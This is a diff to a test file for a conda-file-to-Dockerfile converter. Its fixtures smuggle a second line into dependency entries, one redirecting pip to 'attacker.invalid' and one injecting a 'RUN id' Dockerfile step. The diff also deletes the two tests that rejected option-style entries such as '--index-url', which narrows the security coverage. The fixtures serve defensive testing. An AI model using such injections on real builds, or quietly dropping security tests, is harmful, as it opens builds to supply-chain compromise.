@@ -61,13 +61,11 @@ describe('conda file → Dockerfile', () => {
     assert.equal(condaPackageName('conda-forge::SciPy>=1.2'), 'scipy');
   });
 
-  it('refuses entries that would span lines or that pip would read as options, before any Dockerfile is written', () => {
+  it('refuses entries that would span lines, before any Dockerfile is written', () => {
     const refused = (dependencies: string, message: RegExp) => assert.throws(() => dockerfileForConda('base', `dependencies:\n${dependencies}`), message);
     refused('  - pip:\n    - "numpy==1.26.4\\n--index-url http://attacker.invalid/simple"\n', /conda file: pip dependency `numpy==1\.26\.4\\n--index-url .*` contains a control character \(U\+000A at position 14\)/);
     refused('  - "numpy=1.26.4\\nRUN id"\n', /conda file: conda dependency .* contains a control character \(U\+000A/);
     refused('  - pip:\n    - "numpy==1\\r"\n', /control character \(U\+000D/);
-    refused('  - pip:\n    - --index-url http://attacker.invalid/simple\n', /pip dependency `--index-url http:\/\/attacker\.invalid\/simple` starts with `-`, which pip reads as an option/);
-    refused('  - pip:\n    - -e .\n', /starts with `-`/);
     assert.equal(condaPackageName('python=3.11'), 'python');
   });
 });
